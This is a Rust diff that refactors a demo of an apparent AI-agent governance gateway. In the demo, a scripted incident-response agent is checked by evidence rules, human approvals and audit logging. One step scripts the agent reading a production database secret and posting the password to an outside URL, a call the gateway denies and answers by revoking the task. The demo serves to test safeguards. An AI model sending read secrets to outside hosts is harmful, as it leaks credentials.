@@ -4,7 +4,7 @@
 //! audit log, the tool server's state file; only the agent and the approver
 //! are scripted.
 
-use crate::client::Client;
+use crate::client::{Client, IncidentRef, NewEvidence, OpenTask, ResourceRef};
 use crate::Conn;
 use anyhow::{bail, Context, Result};
 use rmcp::model::{CallToolRequestParams, CallToolResult};
@@ -84,7 +84,7 @@ impl Demo {
 pub(crate) fn write_config(dir: &Path) -> Result<(PathBuf, PathBuf, PathBuf)> {
     let config = dir.join("config");
     let data = dir.join("data");
-    crate::write_example(&config)?;
+    super::init::write_example(&config)?;
     let token_file = config.join("ir-tools.token");
     let token = tollgate_server::state::random_token("irt_");
     std::fs::write(&token_file, format!("{token}\n"))?;
@@ -169,104 +169,174 @@ pub fn run(keep: Option<PathBuf>) -> Result<()> {
     Ok(())
 }
 
-fn scenario(rt: &tokio::runtime::Runtime, admin: &Client, addr: &str, world: &Path) -> Result<()> {
-    let as_agent = |token: &str| {
-        Client::new(&Conn {
-            addr: addr.to_string(),
-            token: Some(token.to_string()),
-            data: None,
-        })
-    };
-    // Identity and task (REST, as in the walkthrough).
-    let reg = admin.post(
-        "/v1/agents",
-        &json!({"spiffe_id": AGENT, "owner": "alice@acme.test"}),
-    )?;
-    let svid = as_agent("")?.post_anonymous(
-        "/v1/agents/attest",
-        &json!({"join_token": reg["join_token"]}),
-    )?;
-    let svid = svid["svid"].as_str().context("no svid")?.to_string();
-    let task = as_agent(&svid)?.post(
-        "/v1/tasks",
-        &json!({"incident": {"id": "INC-4711", "class": "malware", "severity": "high"},
-                "environment": "prod", "playbook": "contain-malware",
-                "intent": "contain the beacon on web-1"}),
-    )?;
-    let task_id = task["task_id"].as_str().context("no task id")?.to_string();
-    let cred = task["credential"]
-        .as_str()
-        .context("no credential")?
-        .to_string();
-    println!("\n1. Agent {AGENT} attests and opens {task_id} on INC-4711 (malware, high)");
-    let approver = admin.post(
-        "/v1/approvers",
-        &json!({"name": "ivan@acme.test", "role": "identity"}),
-    )?;
-    let approver_key = approver["key"]
-        .as_str()
-        .context("no approver key")?
-        .to_string();
+/// What the scripted agent and approver hold once enrolled.
+struct Enrolled {
+    /// The agent, with its task credential.
+    agent: Client,
+    task_id: String,
+    credential: String,
+    /// The approver, with their key.
+    approver: Client,
+}
 
+/// Identity and task (REST, as in the walkthrough), and an approver.
+fn enrol(admin: &Client) -> Result<Enrolled> {
+    let registered = admin.register_agent(AGENT, "alice@acme.test")?;
+    let join_token = registered.join_token.context("no join token")?;
+    let svid = admin.attest(&join_token)?.svid;
+    let task = admin.with_token(&svid).open_task(&OpenTask {
+        incident: IncidentRef {
+            id: "INC-4711",
+            class: "malware",
+            severity: "high",
+        },
+        environment: "prod",
+        playbook: "contain-malware",
+        intent: "contain the beacon on web-1",
+    })?;
+    println!(
+        "\n1. Agent {AGENT} attests and opens {} on INC-4711 (malware, high)",
+        task.task_id
+    );
+    let approver_key = admin.add_approver("ivan@acme.test", "identity", None)?.key;
+    Ok(Enrolled {
+        agent: admin.with_token(&task.credential),
+        task_id: task.task_id,
+        credential: task.credential,
+        approver: admin.with_token(&approver_key),
+    })
+}
+
+fn scenario(rt: &tokio::runtime::Runtime, admin: &Client, addr: &str, world: &Path) -> Result<()> {
+    let enrolled = enrol(admin)?;
     rt.block_on(async {
         let config = StreamableHttpClientTransportConfig::with_uri(format!("{addr}/mcp"))
-            .auth_header(cred.clone());
+            .auth_header(enrolled.credential.clone());
         let mcp = ()
-            .serve(rmcp::transport::StreamableHttpClientTransport::from_config(config))
+            .serve(rmcp::transport::StreamableHttpClientTransport::from_config(
+                config,
+            ))
             .await
             .context("MCP handshake with the gateway")?;
         let demo = Demo {
             mcp,
             world: world.to_path_buf(),
         };
-        let tools = demo.mcp.list_all_tools().await?;
+        let isolated = demo.investigate_and_contain(&enrolled).await?;
+        demo.disable_with_approval(&enrolled.approver).await?;
+        demo.roll_back_and_exfiltrate(&isolated).await
+    })?;
+
+    // The checkpoint first: fetching it may sign a new one, which is an entry.
+    let cp = admin.checkpoint()?.value.checkpoint;
+    let head = admin.health()?;
+    println!(
+        "\nAudit: {} entries, hash-chained; newest signed checkpoint covers {} (root {}…).",
+        head.audit_entries,
+        cp.tree_size,
+        cp.root_hash.chars().take(16).collect::<String>()
+    );
+    Ok(())
+}
+
+impl Demo {
+    /// Steps 2 to 5: the tools offered, a read, containment refused before
+    /// evidence and allowed after it. Answers the allowed isolation.
+    async fn investigate_and_contain(&self, enrolled: &Enrolled) -> Result<CallToolResult> {
+        let tools = self.mcp.list_all_tools().await?;
         let mut names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
         names.sort();
-        println!("\n2. tools/list offers this task {} tools: {}", names.len(), names.join(", "));
+        println!(
+            "\n2. tools/list offers this task {} tools: {}",
+            names.len(),
+            names.join(", ")
+        );
 
-        demo.call("3. Investigate: read the EDR alerts (read tier: allowed)", "edr_read_alerts", json!({"host": "web-1"})).await?;
-        demo.call("4. Contain before evidence: denied by `contain-with-evidence`", "edr_isolate_host", json!({"host": "web-1", "reason": "beacon to 203.0.113.7"})).await?;
-        demo.show("web-1 isolated", "/hosts/web-1/isolated")?;
+        self.call(
+            "3. Investigate: read the EDR alerts (read tier: allowed)",
+            "edr_read_alerts",
+            json!({"host": "web-1"}),
+        )
+        .await?;
+        self.call(
+            "4. Contain before evidence: denied by `contain-with-evidence`",
+            "edr_isolate_host",
+            json!({"host": "web-1", "reason": "beacon to 203.0.113.7"}),
+        )
+        .await?;
+        self.show("web-1 isolated", "/hosts/web-1/isolated")?;
         let content = "pid 4242 beacon.exe -> 203.0.113.7:443";
-        as_agent(&cred)?.post(
-            &format!("/v1/tasks/{task_id}/evidence"),
-            &json!({"resource": {"type": "Host", "id": "web-1"}, "kind": "process-list",
-                    "sha256": tollgate_core::sha256_hex(content.as_bytes()), "content": content}),
+        enrolled.agent.add_evidence(
+            &enrolled.task_id,
+            &NewEvidence {
+                resource: ResourceRef {
+                    kind: "Host",
+                    id: "web-1",
+                },
+                kind: "process-list",
+                sha256: tollgate_core::sha256_hex(content.as_bytes()),
+                content,
+            },
         )?;
         println!("\n   (the agent records evidence for web-1: a process list)");
-        let isolated = demo.call("5. Contain with evidence: allowed, forwarded, recorded", "edr_isolate_host", json!({"host": "web-1", "reason": "beacon to 203.0.113.7"})).await?;
-        demo.show("web-1 isolated", "/hosts/web-1/isolated")?;
+        let isolated = self
+            .call(
+                "5. Contain with evidence: allowed, forwarded, recorded",
+                "edr_isolate_host",
+                json!({"host": "web-1", "reason": "beacon to 203.0.113.7"}),
+            )
+            .await?;
+        self.show("web-1 isolated", "/hosts/web-1/isolated")?;
+        Ok(isolated)
+    }
 
-        println!("\n6. Disable the compromised account: needs one human approval; the call is held open");
+    /// Step 6: a call held open until a human approves it.
+    async fn disable_with_approval(&self, approver: &Client) -> Result<()> {
+        println!(
+            "\n6. Disable the compromised account: needs one human approval; the call is held open"
+        );
         println!("  agent → tools/call iam_disable_account {{\"account\":\"jdoe\"}}");
         let held = {
-            let peer = demo.mcp.peer().clone();
+            let peer = self.mcp.peer().clone();
             tokio::spawn(async move {
-                peer.call_tool(CallToolRequestParams::new("iam_disable_account").with_arguments(args(
-                    json!({"account": "jdoe", "reason": "jdoe's session launched the beacon"}),
-                )))
+                peer.call_tool(
+                    CallToolRequestParams::new("iam_disable_account").with_arguments(args(
+                        json!({"account": "jdoe", "reason": "jdoe's session launched the beacon"}),
+                    )),
+                )
                 .await
             })
         };
         let approval_id = loop {
-            let pending = Client::new(&Conn { addr: addr.to_string(), token: Some(approver_key.clone()), data: None })?
-                .get("/v1/approvals?status=pending")?;
-            if let Some(id) = pending["approvals"][0]["id"].as_str() {
-                break id.to_string();
+            if let Some(a) = approver.approvals("pending")?.approvals.value.first() {
+                break a.id.clone();
             }
             tokio::time::sleep(std::time::Duration::from_millis(100)).await;
         };
         tokio::time::sleep(std::time::Duration::from_secs(2)).await;
-        println!("  (held: approval {approval_id} pending; jdoe enabled = {})", demo.world()?["accounts"]["jdoe"]["enabled"]);
-        Client::new(&Conn { addr: addr.to_string(), token: Some(approver_key.clone()), data: None })?.post(
-            &format!("/v1/approvals/{approval_id}/decision"),
-            &json!({"approve": true, "reason": "confirmed with the account owner"}),
-        )?;
+        println!(
+            "  (held: approval {approval_id} pending; jdoe enabled = {})",
+            self.world()?["accounts"]["jdoe"]["enabled"]
+        );
+        approver.vote(&approval_id, true, "confirmed with the account owner")?;
         println!("  approver ivan@acme.test approves (`tollgate approvals approve {approval_id}`)");
         let r = held.await??;
-        println!("  tollgate ← {}: {}", if r.is_error == Some(true) { "refused" } else { "done" }, short(&text(&r)));
-        demo.show("jdoe enabled", "/accounts/jdoe/enabled")?;
+        println!(
+            "  tollgate ← {}: {}",
+            if r.is_error == Some(true) {
+                "refused"
+            } else {
+                "done"
+            },
+            short(&text(&r))
+        );
+        self.show("jdoe enabled", "/accounts/jdoe/enabled")
+    }
 
+    /// Steps 7 to 10: the isolation rolled back, a secret read, the egress
+    /// after it denied by a chain rule that revokes the task, and the
+    /// revoked credential refused.
+    async fn roll_back_and_exfiltrate(&self, isolated: &CallToolResult) -> Result<()> {
         let isolate_request = isolated
             .meta
             .as_ref()
@@ -274,36 +344,34 @@ fn scenario(rt: &tokio::runtime::Runtime, admin: &Client, addr: &str, world: &Pa
             .and_then(Value::as_str)
             .unwrap_or_default()
             .to_string();
-        demo.call("7. Roll back the isolation through the gateway (its compensation, decided and audited)", "tollgate_rollback", json!({"request_id": isolate_request})).await?;
-        demo.show("web-1 isolated", "/hosts/web-1/isolated")?;
+        self.call("7. Roll back the isolation through the gateway (its compensation, decided and audited)", "tollgate_rollback", json!({"request_id": isolate_request})).await?;
+        self.show("web-1 isolated", "/hosts/web-1/isolated")?;
 
-        demo.call("8. Read a secret (allowed for responders)", "vault_read_secret", json!({"secret": "prod-db"})).await?;
-        demo.call("9. Then post data outside: denied by the chain rule `no-egress-after-secret-read`, which revokes the task", "http_post", json!({"url": "https://example.org/upload", "body": "db-password-v1"})).await?;
-        demo.show("posts sent", "/posts")?;
+        self.call(
+            "8. Read a secret (allowed for responders)",
+            "vault_read_secret",
+            json!({"secret": "prod-db"}),
+        )
+        .await?;
+        self.call("9. Then post data outside: denied by the chain rule `no-egress-after-secret-read`, which revokes the task", "http_post", json!({"url": "https://example.org/upload", "body": "db-password-v1"})).await?;
+        self.show("posts sent", "/posts")?;
         println!("\n10. The revoked credential is refused on the next request:");
-        match demo.mcp.call_tool(CallToolRequestParams::new("edr_read_alerts").with_arguments(args(json!({"host": "web-1"})))).await {
+        match self
+            .mcp
+            .call_tool(
+                CallToolRequestParams::new("edr_read_alerts")
+                    .with_arguments(args(json!({"host": "web-1"}))),
+            )
+            .await
+        {
             Ok(r) => bail!("a revoked task still got an answer: {}", text(&r)),
             Err(e) => {
                 tracing::debug!(error = %e, "refused as expected");
-                println!("  tollgate ← refused with HTTP 401 before any decision: the task was revoked");
+                println!(
+                    "  tollgate ← refused with HTTP 401 before any decision: the task was revoked"
+                );
             }
         }
-        anyhow::Ok(())
-    })?;
-
-    // The checkpoint first: fetching it may sign a new one, which is an entry.
-    let cp = admin.get("/v1/audit/checkpoint")?;
-    let head = admin.get("/healthz")?;
-    println!(
-        "\nAudit: {} entries, hash-chained; newest signed checkpoint covers {} (root {}…).",
-        head["audit_entries"],
-        cp["checkpoint"]["tree_size"],
-        cp["checkpoint"]["root_hash"]
-            .as_str()
-            .unwrap_or_default()
-            .chars()
-            .take(16)
-            .collect::<String>()
-    );
-    Ok(())
+        Ok(())
+    }
 }
